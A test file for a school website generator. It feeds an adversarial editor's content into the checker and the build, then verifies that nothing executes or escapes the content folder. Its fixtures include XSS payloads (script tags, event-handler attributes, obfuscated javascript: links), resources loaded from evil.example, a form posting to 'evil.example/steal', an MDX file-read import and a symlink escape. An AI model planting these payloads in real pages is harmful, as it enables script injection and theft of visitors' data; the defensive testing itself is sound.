/**
 * An adversarial editor on a copy of the sample school: scripts in every Markdown body, a scripted
 * SVG, an MDX import, a picture from outside the content folder, shortcuts (symlinks) leading out.
 * - `npm run check` fails, naming each file in Russian;
 * - the build on its own (Astro run without the checker) either refuses, in Russian, or produces a
 *   site and feed where nothing runs, nothing from outside is published and nothing is loaded from
 *   another origin.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { checkContent } from '../../src/checker/check-content.ts';
import { filesOf } from '../helpers/built-site.ts';
import { attr, findAll, parseHtmlFile } from '../helpers/html-tree.ts';

const ROOT = resolve(import.meta.dirname, '..', '..');
const BUILD_TIMEOUT = 400_000;
mkdirSync(join(ROOT, '.build'), { recursive: true });
const root = mkdtempSync(join(ROOT, '.build', 'test-safe-content-'));
/** Files the site must never publish: they lie next to the content folder, not in it. */
const outside = join(root, 'outside');

/** What an adversarial editor appends to every Markdown body (.md). Each `alert(` must vanish. */
const VECTORS = [
  "<script>alert('XSS-script')</script>",
  '<img src="x" onerror="alert(\'XSS-onerror\')">',
  '<svg onload="alert(\'XSS-svg\')"><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(\'XSS-srcdoc\')</script>"></iframe>',
  '<details ontoggle="alert(\'XSS-toggle\')" open><summary>Подробнее</summary>текст</details>',
  "Ссылки: <a href=\"javascript:alert('XSS-a')\">одна</a>, [другая](javascript:alert('XSS-md')), <a href=\"JaVa&#x09;Script:alert('XSS-tab')\">третья</a>.",
  'Счётчик: <img src="https://evil.example/pixel.png" alt=""> и <object data="https://evil.example/x.swf"></object>',
  '<style>body { background: url(https://evil.example/bg.png) }</style>',
  '<form action="https://evil.example/steal"><input name="p"></form>',
  'Разрешено: <kbd>XSS-safe</kbd>.',
].join('\n\n');

const MDX_GUIDE = `---
title: Урок в MDX
platform: sferum
audience: pupils
device: any
topic: lesson
grades: [1, 11]
minutes: 5
order: 9
---

1. Открой «Сферум».
2. Нажми <b onClick="alert('XSS-mdx')">Войти</b>.

<Callout kind="tip">Совет из MDX: XSS-callout.</Callout>

<script>alert('XSS-mdx-script')</script>

<iframe src="https://evil.example/embed" />
`;

const SCRIPTED_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'XSS-file\')"><script>alert(2)</script></svg>';

/** A copy of the sample with every Markdown body poisoned and a shortcut to a YAML file outside. */
function poisonedSample(): string {
  const dir = join(root, 'poisoned', 'content');
  cpSync(join(ROOT, 'content'), dir, { recursive: true });
  for (const folder of ['guides', 'faq', 'announcements', 'pages']) {
    for (const name of readdirSync(join(dir, folder)).filter((file) => file.endsWith('.md'))) {
      const path = join(dir, folder, name);
      writeFileSync(path, `${readFileSync(path, 'utf8')}\n\n${VECTORS}\n`);
    }
  }
  writeFileSync(join(dir, 'guides', 'mdx-urok.mdx'), MDX_GUIDE);
  symlinkSync(join(outside, 'sekretov.yaml'), join(dir, 'staff', 'sekretov-s-s.yaml'));
  return dir;
}

/** The sample plus what the build itself must refuse: an MDX import, pictures from outside. */
function refusedSample(): string {
  const dir = join(root, 'refused', 'content');
  cpSync(join(ROOT, 'content'), dir, { recursive: true });
  writeFileSync(
    join(dir, 'guides', 'mdx-import.mdx'),
    MDX_GUIDE.replace('1. Открой', `import fs from 'node:fs';\n\n{fs.readFileSync('${join(outside, 'marker.txt')}', 'utf8')}\n\n1. Открой`),
  );
  const guide = join(dir, 'guides', 'videourok.md');
  writeFileSync(guide, `${readFileSync(guide, 'utf8')}\n\n![Схема][secret]\n\n[secret]: ../../../outside/secret.svg\n`);
  return dir;
}

interface Run {
  status: number | null;
  output: string;
}

/** The test runner's environment without the variables Vite would take over the configured base (as scripts/build.ts does). */
function environment(): NodeJS.ProcessEnv {
  const env = { ...process.env };
  for (const name of ['BASE_URL', 'MODE', 'DEV', 'PROD', 'SSR']) delete env[name];
  return env;
}

/** Astro's build alone, without the checker in front (as if `npm run check` had been skipped). */
function astroBuildWithoutCheck(contentDir: string, name: string): Run {
  const outDir = join(root, `${name}-dist`);
  const code = `const { build } = await import('astro'); await build({ outDir: ${JSON.stringify(outDir)}, cacheDir: ${JSON.stringify(join(root, `${name}-cache`))}, logLevel: 'error' });`;
  const result = spawnSync(process.execPath, ['--input-type=module', '-e', code], {
    cwd: ROOT,
    env: { ...environment(), CONTENT_DIR: contentDir, OUT_DIR: outDir, BUILD_DATE: '2026-11-18', ASTRO_TELEMETRY_DISABLED: '1' },
    encoding: 'utf8',
    timeout: BUILD_TIMEOUT,
  });
  return { status: result.status, output: `${result.stdout}\n${result.stderr}${result.error ? `\n${String(result.error)}` : ''}` };
}

let poisoned: string;
let site: string;
let built: Run;

beforeAll(() => {
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, 'secret.svg'), SCRIPTED_SVG);
  writeFileSync(join(outside, 'marker.txt'), 'MARKER-FROM-OUTSIDE');
  writeFileSync(
    join(outside, 'sekretov.yaml'),
    readFileSync(join(ROOT, 'content', 'staff', 'petrov-i-v.yaml'), 'utf8').replace(/^name: .*$/m, 'name: Секретов Секрет Секретович'),
  );
  poisoned = poisonedSample();
  site = join(root, 'poisoned-dist');
  built = astroBuildWithoutCheck(poisoned, 'poisoned');
}, BUILD_TIMEOUT);

afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('the checker is the gate', () => {
  test('every poisoned file is named with a Russian error', () => {
    mkdirSync(join(poisoned, 'guides', 'images'), { recursive: true });
    writeFileSync(join(poisoned, 'guides', 'images', 'skhema.svg'), SCRIPTED_SVG);
    try {
      const errors = checkContent(poisoned).problems.filter((problem) => problem.severity === 'error');
      const files = new Set(errors.map((problem) => problem.file));
      for (const folder of ['guides', 'faq', 'announcements', 'pages']) {
        for (const name of readdirSync(join(poisoned, folder)).filter((file) => /\.mdx?$/.test(file)))
          expect(files, `${folder}/${name}`).toContain(`${folder}/${name}`);
      }
      expect(files).toContain('guides/images/skhema.svg');
      expect(files).toContain('staff/sekretov-s-s.yaml');
      for (const problem of errors) expect(problem.message).toMatch(/[а-яё].* — /i);
    } finally {
      rmSync(join(poisoned, 'guides', 'images', 'skhema.svg'));
    }
  });

  test('an MDX import and a picture from outside are errors too', () => {
    const errors = checkContent(refusedSample()).problems.filter((problem) => problem.severity === 'error');
    expect(errors.map((problem) => `${problem.file} ${problem.message.split(' — ')[0]}`)).toEqual(
      expect.arrayContaining([
        'guides/mdx-import.mdx в файлах .mdx нельзя писать код: строка «import …» запускает программу при сборке сайта',
        'guides/videourok.md путь к картинке «../../../outside/secret.svg» ведёт за пределы папки с содержимым',
      ]),
    );
  });
});

describe('the build without the checker', () => {
  test(
    'refuses an MDX import and a picture from outside, in Russian, and publishes nothing',
    () => {
      const run = astroBuildWithoutCheck(refusedSample(), 'refused');
      expect(run.status, run.output).not.toBe(0);
      expect(run.output).toMatch(/в файлах \.mdx нельзя писать код|ведёт за пределы папки с содержимым/);
      expect(run.output).not.toContain('MARKER-FROM-OUTSIDE');
    },
    BUILD_TIMEOUT,
  );

  test('builds the poisoned sample', () => {
    expect(built.status, built.output).toBe(0);
  });

  test('nothing an editor wrote runs, in pages, the feed or any export', () => {
    const files = ['.html', '.xml', '.json', '.ics', '.vcf']
      .flatMap((extension) => filesOf(site, extension))
      .filter((file) => !file.includes('/pagefind/'));
    expect(files.length).toBeGreaterThan(20);
    for (const file of files) {
      const text = readFileSync(file, 'utf8');
      expect(text, file).not.toMatch(/alert\(|evil\.example|javascript:/i);
    }
    // The poisoned bodies did reach the output: the allowed element and the MDX callout are there.
    expect(readFileSync(join(site, 'rss.xml'), 'utf8')).toContain('XSS-safe');
    const mdx = parseHtmlFile(join(site, 'guides', 'mdx-urok', 'index.html'));
    expect(findAll(mdx, (node) => node.nodeName === 'blockquote' && (attr(node, 'class') ?? '').includes('callout-tip')).length).toBe(1);
  });

  test('no event attribute, frame or object in any page', () => {
    for (const file of filesOf(site, '.html')) {
      const page = parseHtmlFile(file);
      const events = findAll(page, (node) => (node.attrs ?? []).some((a) => /^on/i.test(a.name)));
      // The site's own embed page previews itself in an iframe of the same origin; nothing else frames.
      const active = findAll(
        page,
        (node) =>
          ['iframe', 'object', 'embed', 'frame'].includes(node.nodeName) &&
          !(node.nodeName === 'iframe' && (attr(node, 'src') ?? '').startsWith('/')),
      );
      expect(
        events.map((node) => node.nodeName),
        file,
      ).toEqual([]);
      expect(
        active.map((node) => node.nodeName),
        file,
      ).toEqual([]);
    }
  });

  test('a YAML file behind a shortcut out of the content folder is not published', () => {
    for (const file of filesOf(site, '.html')) expect(readFileSync(file, 'utf8'), file).not.toContain('Секретов');
  });
});
